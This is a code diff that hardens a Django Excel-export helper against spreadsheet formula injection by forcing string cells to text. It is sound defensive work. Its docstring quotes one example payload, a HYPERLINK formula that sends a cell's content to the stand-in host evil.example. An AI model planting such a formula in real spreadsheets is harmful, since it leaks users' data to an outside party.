@@ -1,5 +1,9 @@
 """Excel exports of the lists leaders act on (openpyxl): Vietnamese headings, dates as
-dd/mm/yyyy, a frozen header row and widths that fit."""
+dd/mm/yyyy, a frozen header row and widths that fit.
+
+Every text is written as text: what officials type (a task's title, a report's proposals)
+may begin with "=" and would otherwise become a live formula in the leaders' spreadsheet
+(``=HYPERLINK("http://evil.example/?"&A1, "Xem")``)."""
 
 from collections.abc import Iterable, Sequence
 from datetime import date
@@ -7,10 +11,31 @@ from io import BytesIO
 
 from django.http import HttpResponse
 from openpyxl import Workbook
+from openpyxl.cell import Cell
 from openpyxl.styles import Alignment, Font, PatternFill
 from openpyxl.utils import get_column_letter
+from openpyxl.worksheet.worksheet import Worksheet
 
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+# What Excel, LibreOffice and CSV readers take as the start of a formula.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _as_text(cell: Cell) -> None:
+    """Keep a string cell a string: never a formula, and shown with Excel's quote prefix
+    (the leading apostrophe) so that editing it does not turn it into one either."""
+    if cell.data_type == "f" or (
+        isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)
+    ):
+        cell.data_type = "s"
+        cell.quotePrefix = True
+
+
+def keep_text(sheet: Worksheet) -> None:
+    """Every string cell of ``sheet`` written as text (call it once the rows are in)."""
+    for row in sheet.iter_rows():
+        for cell in row:
+            _as_text(cell)
 
 
 def workbook_response(
@@ -29,6 +54,7 @@ def workbook_response(
         sheet.column_dimensions[get_column_letter(index)].width = width
     for row in rows:
         sheet.append(list(row))
+    keep_text(sheet)
     for row in sheet.iter_rows(min_row=2):
         for cell in row:
             if isinstance(cell.value, date):
